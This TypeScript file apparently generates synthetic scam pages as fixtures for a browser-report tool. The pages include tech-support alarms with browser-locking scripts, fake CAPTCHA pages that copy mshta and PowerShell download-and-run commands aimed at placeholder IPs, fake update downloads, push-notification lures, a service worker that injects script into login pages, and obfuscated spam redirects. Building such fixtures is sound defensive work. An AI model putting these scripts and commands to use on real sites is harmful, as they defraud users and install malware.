/** Scams that frighten, hurry or trick people into calling, pasting commands, installing or allowing. Commands and addresses are inert. */
import type { FreshPage } from '../browser-report.ts';
import { chanceOf } from '../chance.ts';
import { type Lang, wordsOf } from '../languages.ts';
import { documentOf, external, field, inline, link, list } from '../markup.ts';
import { base64, packed, percent } from '../obfuscation.ts';

type Alarm = readonly [
  url: string,
  lang: Lang,
  title: string,
  phone: string,
  text: string,
  manner: 'alert' | 'fullscreen' | 'history' | 'audio' | 'print',
];

const ALARMS: readonly Alarm[] = [
  [
    'https://win-defender-alert0x8024.azurewebsites.net/Er0Win8/?phone=+1-888-555-0142',
    'en',
    'Security Center Code0x268d3 Er0r',
    '+1-888-555-0142',
    'Windows Defender Security Center. Access to this PC has been blocked for security reasons. Trojan_Spyware Alert – Error Code: #0x268d3(3). Call Windows Support immediately. Do not shut down or restart your computer, doing that may lead to data loss and identity theft.',
    'fullscreen',
  ],
  [
    'https://mac-os-warning.s3.amazonaws.com/index.html',
    'en',
    'Apple Security Warning',
    '(855) 555-0177',
    'MacOS is infected with (4) viruses! Pornographic spyware and riskware detected: e.tre456_worm. Call Apple Support now; your banking details, Facebook login and photos are being stolen.',
    'alert',
  ],
  [
    'https://sicherheitswarnung-07.web.core.windows.example/de/',
    'de',
    'Windows-Firewall-Warnung!',
    '030 5550 1919',
    'Ihr Computer wurde gesperrt. Ihr PC meldet uns, dass er von einem Trojaner infiziert wurde: Kreditkartendaten, E-Mail-Passwörter und Fotos sind gefährdet. Rufen Sie sofort den Microsoft-Support an. Schließen Sie diese Seite nicht!',
    'history',
  ],
  [
    'https://alerte-securite-win.ondigitalocean.app/fr',
    'fr',
    'Alerte de sécurité Microsoft',
    '01 99 00 12 34',
    'VOTRE ORDINATEUR A ÉTÉ BLOQUÉ. Erreur 0x80070422. Ne fermez pas cette fenêtre et n’éteignez pas votre ordinateur. Appelez immédiatement le support technique au numéro gratuit.',
    'audio',
  ],
  [
    'https://aviso-critico-pc.b-cdn.net/es.html',
    'es',
    'Alerta crítica de Microsoft',
    '900 555 014',
    'Su ordenador ha sido bloqueado por actividad sospechosa. Llame al soporte técnico de Windows para desbloquearlo. Se ha robado la siguiente información: contraseñas, datos bancarios, chats.',
    'fullscreen',
  ],
  [
    'http://198.51.100.88/jp/index.php?c=support',
    'ja',
    'Windows セキュリティ警告',
    '050-5555-0143',
    'お使いのコンピューターはトロイの木馬に感染しました。このPCへのアクセスはセキュリティ上の理由からブロックされています。Windowsサポートに今すぐ電話してください。電源を切らないでください。',
    'audio',
  ],
  [
    'https://waarschuwing-virus.netlify.app/',
    'nl',
    'Beveiligingswaarschuwing',
    '085 555 0123',
    'Uw computer is geblokkeerd. Bel direct met Microsoft-helpdesk om gegevensverlies te voorkomen.',
    'print',
  ],
  [
    'https://avviso-sistema.duckdns.org/it/',
    'it',
    'Avviso di sistema',
    '02 5550 0199',
    'Il tuo computer è stato bloccato perché è stato rilevato uno spyware. Chiama subito l’assistenza Microsoft. Non ignorare questo avviso critico.',
    'alert',
  ],
  [
    'https://politia-blokada.example/pl/',
    'pl',
    'Policja – Twoja przeglądarka została zablokowana',
    '',
    'Twoja przeglądarka została zablokowana z powodu oglądania niedozwolonych treści. Aby ją odblokować, zapłać grzywnę 500 zł w ciągu 12 godzin; w przeciwnym razie sprawa trafi do sądu.',
    'history',
  ],
  [
    'https://amazon-refund-helpdesk.weebly.com/',
    'en',
    'Amazon order #114-8812 confirmed: $1,299.00',
    '1-802-555-0110',
    'Your order of an iPhone 15 Pro will be charged today. If you did not place this order, call our fraud department now. Our agent will connect to your computer to cancel the charge. Download AnyDesk or TeamViewer.',
    'alert',
  ],
];

const ALARM_SCRIPTS: Readonly<Record<Alarm[5], (text: string, phone: string) => string>> = {
  alert: (text, phone) =>
    `var msg=${JSON.stringify(text)}+"\\n\\n"+${JSON.stringify(phone)};function again(){alert(msg);setTimeout(again,10);}window.onload=again;window.onbeforeunload=function(e){e.returnValue=msg;return msg;};document.onkeydown=function(e){if(e.keyCode==27||e.altKey||e.ctrlKey)return false;};`,
  fullscreen:
    () => `function goFull(){var d=document.documentElement;(d.requestFullscreen||d.webkitRequestFullScreen||d.mozRequestFullScreen).call(d);if(navigator.keyboard&&navigator.keyboard.lock)navigator.keyboard.lock(['Escape','AltLeft','F11','MetaLeft']);document.body.requestPointerLock&&document.body.requestPointerLock();document.getElementById('beep').play();}
document.addEventListener('click',goFull);document.addEventListener('mousemove',goFull,{once:true});document.addEventListener('keydown',function(e){e.preventDefault();goFull();});window.addEventListener('beforeunload',function(e){e.preventDefault();e.returnValue='';});document.body.style.cursor='none';`,
  history: (text) =>
    `for(var i=0,total="";i<100000;i++){total=total+i.toString();history.pushState(0,0,total);}window.onpopstate=function(){history.go(1);};for(var n=0;n<150;n++){document.write('<iframe src="?n='+n+'" style="display:none" onunload="alert(${JSON.stringify(text.slice(0, 30)).replaceAll('"', '')})"></iframe>');}`,
  audio: () =>
    `var a=document.getElementById('beep');a.loop=true;a.volume=1;function p(){a.play().catch(function(){});}document.onclick=document.onmousemove=document.onkeydown=p;setInterval(function(){document.title=document.title.charAt(0)=='⚠'?document.title.slice(2):'⚠ '+document.title;},600);function scan(){var f=document.getElementById('files'),w=['C:\\\\Windows\\\\System32\\\\ntdll.dll','C:\\\\Users\\\\Documents','HKLM\\\\Software'];setInterval(function(){f.textContent=w[Math.floor(Math.random()*3)];},90);}scan();`,
  print: (text) =>
    `var blob=new Blob([new Array(1e6).join(${JSON.stringify(text.slice(0, 40))})],{type:'text/plain'});(function loop(){var u=URL.createObjectURL(blob);var l=document.createElement('a');l.href=u;l.download='f';l.click();window.print();setTimeout(loop,50);})();`,
};

function alarm([url, lang, title, phone, text, manner]: Alarm): FreshPage {
  const c = chanceOf(url);
  return {
    url,
    html: documentOf({
      lang,
      title,
      head: `<meta name="robots" content="noindex">${external('https://code.jquery.com/jquery-3.3.1.min.js')}`,
      bodyAttributes:
        manner === 'fullscreen' ? 'onbeforeunload="return myFunction()" oncontextmenu="return false"' : '',
      body: `<audio id="beep" autoplay loop><source src="media/alert.mp3" type="audio/mpeg"></audio><div id="poptxt" class="popup" style="position:fixed;z-index:9999999"><img src="images/microsoft.png" alt=""><h1>${title}</h1><p>${text}</p>${phone && `<h2><a href="tel:${phone.replaceAll(/[^+\d]/g, '')}">${phone}</a></h2>`}<button class="ok">OK</button><button>${wordsOf(lang).continue}</button></div>
<div id="scan"><p>Quick Scan: <b>${c.int(1200, 9000)}</b> items · <span id="files"></span></p><p>IP: <span id="ip_add"></span></p></div>${phone ? '' : `<form action="pay.php" method="post">${field('paysafecard PIN', 'pin', 'text', 'maxlength="16"')}<button>${wordsOf(lang).pay}</button></form>`}
${inline(ALARM_SCRIPTS[manner](text, phone))}${inline(`$.getJSON('https://ipwho.is/',function(d){$('#ip_add').html(d.ip+' '+d.city+', '+d.connection.isp);});`)}`,
    }),
  };
}

type Paste = readonly [
  url: string,
  lang: Lang,
  title: string,
  steps: string,
  command: string,
  copy: 'clipboard' | 'exec' | 'encoded',
];

const PASTES: readonly Paste[] = [
  [
    'https://human-check-77.pages.dev/verify',
    'en',
    'Verify you are human',
    'Press the Windows button + R|Press CTRL + V to paste the verification text|Press Enter to complete verification',
    'mshta https://cap.example/v.mp4 # ✅ “I am not a robot – reCAPTCHA Verification ID: 146820”',
    'clipboard',
  ],
  [
    'https://docs-viewer-fix.b-cdn.net/error',
    'en',
    'Word Online',
    'The “Word Online” extension is not installed.|Click “How to fix”, open Windows PowerShell as administrator|Paste the code with a right click and wait',
    'powershell -NoP -W Hidden -C "$u=\'http://192.0.2.19/fix.txt\';iex(irm $u)"',
    'encoded',
  ],
  [
    'https://www.fahrschule-eberle.example/',
    'de',
    'Cloudflare – Sicherheitsüberprüfung',
    'Bestätigen Sie, dass Sie ein Mensch sind|Drücken Sie Windows-Taste + R, dann Strg + V|Drücken Sie die Eingabetaste',
    'cmd /c start /min powershell -w h -c "curl http://203.0.113.9/a|iex"',
    'exec',
  ],
  [
    'https://meet-google-join.example/room',
    'fr',
    'Google Meet – Problème de microphone',
    'Votre microphone n’est pas détecté. Appuyez sur Windows + R|Collez avec Ctrl + V|Validez avec Entrée pour réparer',
    'mshta http://198.51.100.30/mic.hta',
    'clipboard',
  ],
  [
    'https://captcha-verificacion.site.example/',
    'es',
    'Verificación de robot',
    'Presione Windows + R|Pegue con Ctrl + V|Presione Enter',
    'powershell -ep bypass -enc SQBOAEUAUgBUAA==',
    'encoded',
  ],
  [
    'https://mac-support-repair.example/install',
    'en',
    'Fix “Disk almost full” on macOS',
    'Open Terminal with Command + Space|Paste the command below and press Return|Enter your Mac password when asked',
    'echo "aW5lcnQ=" | base64 -d | bash; curl -fsSL http://192.0.2.66/m.sh | sh',
    'clipboard',
  ],
  [
    'https://turnstile-dogrulama.example/',
    'tr',
    'İnsan olduğunuzu doğrulayın',
    'Windows + R tuşlarına basın|Ctrl + V ile yapıştırın|Enter’a basın',
    'mshta javascript:close();// http://203.0.113.44/x',
    'exec',
  ],
  [
    'https://booking-guest-complaint.example/captcha',
    'ru',
    'Подтвердите, что вы не робот',
    'Нажмите Win + R|Нажмите Ctrl + V|Нажмите Enter',
    'powershell -w 1 -c "(New-Object Net.WebClient).DownloadString(\'http://192.0.2.90/z\')|iex"',
    'clipboard',
  ],
];

function paste([url, lang, title, steps, command, copy]: Paste): FreshPage {
  const scripts = {
    clipboard: `const cmd = ${JSON.stringify(command)}; document.getElementById('checkbox').addEventListener('click', function () { navigator.clipboard.writeText(cmd); document.getElementById('steps').style.display = 'block'; setTimeout(function () { document.getElementById('verify').disabled = false; }, 4000); fetch('/stat?e=copy'); });`,
    exec: `function setClipboard(text){var t=document.createElement('textarea');t.value=text;t.style.position='absolute';t.style.left='-9999px';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();}document.getElementById('checkbox').onclick=function(){setClipboard(${JSON.stringify(command)});document.getElementById('steps').style.display='block';};`,
    encoded: `var htmlContent=atob("${base64(encodeURIComponent(command))}");document.getElementById('checkbox').onclick=function(){navigator.clipboard.writeText(decodeURIComponent(htmlContent));document.getElementById('steps').style.display='block';${packed("document.title='1';window.parent.postMessage('copied','*');")}};`,
  };
  return {
    url,
    html: documentOf({
      lang,
      title,
      head: '<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/font-awesome/5.15.4/css/all.min.css">',
      body: `<div class="recaptcha-box"><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" alt="reCAPTCHA"><h1>${title}</h1><div id="checkbox" role="checkbox">☐ I’m not a robot</div></div>
<div id="steps" class="modal" style="display:none"><h2>${title}</h2>${list(steps.split('|'))}<button id="verify" disabled>${wordsOf(lang).continue}</button></div>${inline(scripts[copy])}<p>Ray ID: ${chanceOf(url).hex(16)} · ${link('https://www.google.com/recaptcha/about/', wordsOf(lang).privacy)}</p>`,
    }),
  };
}

type Update = readonly [
  url: string,
  lang: Lang,
  title: string,
  text: string,
  file: string,
  way: 'link' | 'blob' | 'auto' | 'injected',
];

const UPDATES: readonly Update[] = [
  [
    'https://www.gardencentre-willow.example/blog/roses',
    'en',
    'Update Chrome Browser',
    'You are using an older version of Chrome. Update now to keep your Chrome browser running smoothly and securely.',
    'Chrome.Update.js',
    'injected',
  ],
  [
    'https://firefox-aktualisierung.example/',
    'de',
    'Firefox ist veraltet',
    'Ihre Version von Firefox ist veraltet. Ein wichtiges Sicherheitsupdate steht bereit.',
    'Firefox_Update_124.msix',
    'auto',
  ],
  [
    'https://flash-lecteur-maj.example/video',
    'fr',
    'Mettez à jour Flash Player',
    'Pour lire cette vidéo, votre lecteur Flash doit être mis à jour.',
    'flashplayer_install.exe',
    'link',
  ],
  [
    'https://fonts-missing.example/article',
    'en',
    'The “HoeflerText” font wasn’t found',
    'The web page you are trying to load is displayed incorrectly. To fix the error, you have to update the “Chrome Font Pack”.',
    'Font_Chrome.exe',
    'blob',
  ],
  [
    'https://webex-reunion.example/descargar',
    'es',
    'Se requiere una actualización',
    'Para unirse a la reunión, instale la versión más reciente de la aplicación.',
    'Webex_Setup.msi',
    'blob',
  ],
  [
    'https://obs-studio-pobierz.example/',
    'pl',
    'Pobierz OBS Studio',
    'Najnowsza wersja 30.1. Wyłącz program antywirusowy przed instalacją; hasło do archiwum: 1234',
    'OBS-Studio-30.1-PASS-1234.zip',
    'link',
  ],
];

function update([url, lang, title, text, file, way]: Update): FreshPage {
  const c = chanceOf(url);
  const junk = c.base64(1600);
  const scripts = {
    link: `document.getElementById('dl').href='https://cdn.${c.word(7)}.example/dl/${file}';`,
    blob: `var data="${junk}";function b(s){var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i)^${c.int(2, 200)};return a;}document.getElementById('dl').onclick=function(){var f=new Blob([b(data)],{type:'octet/stream'});var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download='${file}';document.body.appendChild(l);l.click();};`,
    auto: `setTimeout(function(){location.href='/get/${c.hex(8)}/${file}';},3000);history.pushState(null,null,location.href);window.onpopstate=function(){history.go(1);};`,
    injected: `(function(){if(document.cookie.indexOf('__upd=1')>=0||!/Chrome/.test(navigator.userAgent)||/Mobile/.test(navigator.userAgent))return;document.cookie='__upd=1;max-age=86400';var f=document.createElement('iframe');f.style='position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647';f.srcdoc=decodeURIComponent('${percent(`<h1>${title}</h1><p>${text}</p><a download="${file}" href="https://upd.${c.word(6)}.example/${file}">Update Chrome</a>`)}');document.body.innerHTML='';document.body.appendChild(f);})();`,
  };
  return {
    url,
    html: documentOf({
      lang,
      title,
      body: `<div class="browser-logo"><img src="/img/logo-${c.hex(4)}.png" alt=""></div><h1>${title}</h1><p>${text}</p><a id="dl" class="button" href="#">${wordsOf(lang).continue}</a><p class="small">© 2024 Google LLC · Mozilla · Adobe</p>${inline(scripts[way])}`,
    }),
  };
}

type Lure = readonly [url: string, lang: Lang, title: string, body: string, script: string];

const PUSH = 'BKd0FOnmkRtZ5hH2s9o5kXgV3h0example';
const subscribe = `function urlB64(s){var p='='.repeat((4-s.length%4)%4);var r=atob((s+p).replace(/-/g,'+').replace(/_/g,'/'));return Uint8Array.from(r,function(c){return c.charCodeAt(0)});}`;

const LURES: readonly Lure[] = [
  [
    'https://click-allow-robot.top/?h=waWQiOjEwMTQ',
    'en',
    'Press Allow to confirm you are not a robot',
    '<h1>Click “Allow” to confirm that you are not a robot</h1><img src="arrow.gif" alt=""><p class="loader">▮▮▮▯▯</p>',
    `${subscribe}Notification.requestPermission().then(function(p){if(p==='granted'){navigator.serviceWorker.register('/sw-push.js').then(function(r){return r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:urlB64('${PUSH}')});}).then(function(s){fetch('https://push-net.example/subscribe',{method:'POST',body:JSON.stringify(s)});location='https://offers.example/';});}else{var n=+(location.hostname.match(/^n(\\d+)/)||[0,0])[1]+1;location.href='https://n'+n+'.click-allow-robot.top/'+location.search;}});`,
  ],
  [
    'https://video-abspielen.live.example/watch',
    'de',
    'Video wird geladen …',
    '<div class="player"><div class="spin"></div><p>Klicken Sie auf „Zulassen“, um das Video anzusehen</p></div>',
    `${subscribe}window.onbeforeunload=function(){return 'Klicken Sie auf Zulassen, um die Seite zu schließen';};setInterval(function(){Notification.requestPermission();},800);navigator.serviceWorker&&navigator.serviceWorker.register('sw.js?z=41288');`,
  ],
  [
    'https://descarga-lista.xyz/file.rar',
    'es',
    'Su archivo está listo',
    '<p>Haga clic en “Permitir” para iniciar la descarga</p><button id="b">Descargar</button>',
    `${subscribe}document.body.onclick=function(){window.open('https://ads.example/pop?sub=4','_blank');document.documentElement.requestFullscreen();};if(Notification.permission==='denied')location.replace('https://m2.descarga-lista.xyz/');else Notification.requestPermission(function(){navigator.serviceWorker.register('/worker.min.js');});`,
  ],
  [
    'https://news-allow18.example/ok',
    'pt',
    'Confirme que tem 18 anos',
    '<h2>Para confirmar que você tem mais de 18 anos clique em “Permitir”</h2>',
    `importScriptsUrl='https://push-sdk.example/ntfc.php?p=2281';var s=document.createElement('script');s.src='//push-sdk.example/ntfc.php?p=2281';document.head.appendChild(s);history.pushState({},'','#1');history.pushState({},'','#2');window.addEventListener('popstate',function(){location='https://back-offer.example/';});`,
  ],
  [
    'https://cdn-worker-sync.example/',
    'ru',
    'Загрузка…',
    '<p>Подождите, идёт проверка браузера. Нажмите «Разрешить».</p>',
    `navigator.serviceWorker.register('/sw.js',{scope:'/'}).then(function(r){r.sync&&r.sync.register('beat');r.periodicSync&&r.periodicSync.register('beat',{minInterval:6e4});});navigator.serviceWorker.ready.then(function(r){r.active.postMessage({inject:'https://evil-inject.example/x.js',hook:['/login','/checkout']});});`,
  ],
  [
    'https://iphone15-gewinner.shop/lp',
    'de',
    'Herzlichen Glückwunsch, Telekom-Nutzer!',
    '<h1>Sie wurden ausgewählt!</h1><p>Als einer von 10 glücklichen Kunden erhalten Sie ein iPhone 15 Pro für nur 1 €. Beantworten Sie 3 Fragen. Es sind noch <b id="left">4</b> Geschenke übrig.</p><div class="q"><p>Wie alt sind Sie?</p><button>18–29</button><button>30+</button></div><div class="comments"><p>Sabine K.: Ich dachte, es sei ein Scherz, aber mein iPhone kam heute an!</p></div><form action="https://pay-1eur.example/checkout" method="post"><input name="name"><input name="cc"><input name="cvv"></form>',
    `var t=240;setInterval(function(){t--;document.getElementById('left').textContent=t<60?1:t<150?2:4;},1000);if(navigator.vibrate)navigator.vibrate([200,100,200]);window.onbeforeunload=function(){return 'Sind Sie sicher, dass Sie Ihr Geschenk nicht wollen?'};`,
  ],
  [
    'https://amazon-yubileyniy.example/spin',
    'en',
    'Amazon 30th anniversary: spin the wheel',
    '<h1>Spin the wheel and win a Samsung S24!</h1><div id="wheel"></div><p>Share with 5 groups or 20 friends on WhatsApp to claim your prize.</p><a href="whatsapp://send?text=https://amazon-yubileyniy.example/spin">Share</a>',
    `var shares=0;document.querySelector('a').onclick=function(){shares++;document.cookie='s='+shares;if(shares>14)location='https://cpa-offer.example/?aff=88';};function spin(){setTimeout(function(){alert('Congratulations! You have won a Samsung S24. You have 1 prize left.');},3000);}spin();`,
  ],
  [
    'https://elon-btc-double.live/',
    'en',
    'Official giveaway 5,000 BTC',
    '<h1>Tesla & Elon Musk: 5,000 BTC giveaway</h1><p>To participate you just need to send from 0.1 BTC to 20 BTC to the contribution address and we will immediately send you back 0.2 to 40 BTC (x2).</p><pre id="adr">bc1qexampleexampleexampleexampleexample00</pre><button onclick="navigator.clipboard.writeText(adr.innerText)">Copy</button><table id="tx"><tr><th>Status</th><th>Value</th></tr></table><p>Left: <span id="rest">1,204 BTC</span></p>',
    `setInterval(function(){var v=(Math.random()*3+.1).toFixed(2);var r=document.getElementById('tx').insertRow(1);r.innerHTML='<td>completed</td><td>'+v+' BTC → '+(v*2).toFixed(2)+' BTC</td>';},2600);`,
  ],
  [
    'https://quantum-ai-invest.example/fr/',
    'fr',
    'Le secret des banques révélé',
    '<h1>Un Français gagne 9 870 € par mois grâce à ce programme</h1><p>Il ne reste que 7 places aujourd’hui. Investissez 250 € et laissez l’intelligence artificielle travailler. Vu à la télévision.</p><form action="https://crm-leads.example/api/lead" method="post"><input name="first"><input name="last"><input type="email" name="email"><input type="tel" name="phone"><button>Je commence</button></form>',
    `var places=7;setInterval(function(){if(places>1)places--;},30000);document.addEventListener('mouseleave',function(){document.getElementById('exit')&&(document.getElementById('exit').style.display='block');});fetch('https://ipapi.co/json/').then(r=>r.json()).then(d=>{document.querySelector('[name=phone]').value=d.country_calling_code;});`,
  ],
  [
    'http://best-pills-rx.example/cheap-viagra-online',
    'en',
    'Buy cheap Viagra online no prescription',
    `<div style="display:none">${Array.from({ length: 260 }, (_, n) => `<a href="/buy-${['viagra', 'cialis', 'xanax', 'levitra'][n % 4]}-${n}">${['cheap', 'buy', 'order', 'discount'][n % 4]} ${['viagra', 'cialis', 'xanax', 'levitra'][n % 4]} online no prescription ${n}</a>`).join(' ')}</div><p>Loading…</p>`,
    `var r=document.referrer;if(/google|bing|yahoo|yandex/i.test(r)){document.location.href='http://rx-gate.example/in.cgi?7&seoref='+encodeURIComponent(r)+'&parameter=$keyword&se=$se&ur=1';}`,
  ],
  [
    'https://www.gemeinde-chor.example/replica-watches-2/',
    'de',
    'Replica Uhren günstig kaufen',
    `<h1>Chorproben</h1><p>Jeden Dienstag um 19 Uhr.</p><div style="position:absolute;left:-4500px">${Array.from({ length: 180 }, (_, n) => `<a href="http://replica${n % 9}.example/rolex-${n}.html">rolex replica uhren ${n}</a>`).join('\n')}</div>`,
    `eval(String.fromCharCode(${[...`if(document.referrer.match(/google\\.|bing\\./)){window.location="http://replica-shop.example/?u="+escape(location.href);}`].map((x) => x.charCodeAt(0)).join(',')}));`,
  ],
  [
    'https://www.tierarzt-sommer.example/',
    'de',
    'Tierarztpraxis Dr. Sommer',
    '<h1>Tierarztpraxis</h1><p>Sprechstunde montags bis freitags 9 bis 12 Uhr.</p>',
    `var _0x1e=['\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x74\\x64\\x73\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\\x67\\x6f\\x2f\\x3f\\x69\\x64\\x3d\\x34'];(function(){var d=document,m=/mobile|android|iphone/i.test(navigator.userAgent);if(m&&d[_0x1e[0]]&&d[_0x1e[0]].indexOf(location.host)<0&&!localStorage.getItem('h')){localStorage.setItem('h',Date.now());window['loc'+'ation']['rep'+'lace'](_0x1e[1]);}})();`,
  ],
  [
    'http://hacked-recipes.example/wp-content/uploads/2024/go.html',
    'en',
    'Redirecting',
    '<meta http-equiv="refresh" content="0;url=https://tracker.example/click?pid=33&off=12"><p>Loading, please wait…</p>',
    `top.location.href="https://tracker.example/click?pid=33&off=12&s="+screen.width+"x"+screen.height+"&tz="+new Date().getTimezoneOffset();setTimeout(function(){window.open('','_self').close();},4000);`,
  ],
];

const lure = ([url, lang, title, body, script]: Lure): FreshPage => ({
  url,
  html: documentOf({
    lang,
    title,
    head: '<meta name="referrer" content="no-referrer">',
    body: `${body}${inline(script)}`,
  }),
});

export const scams = {
  'support scam': () => ALARMS.map(alarm),
  'pasted command': () => PASTES.map(paste),
  'fake update': () => UPDATES.map(update),
  lure: () => LURES.map(lure),
};
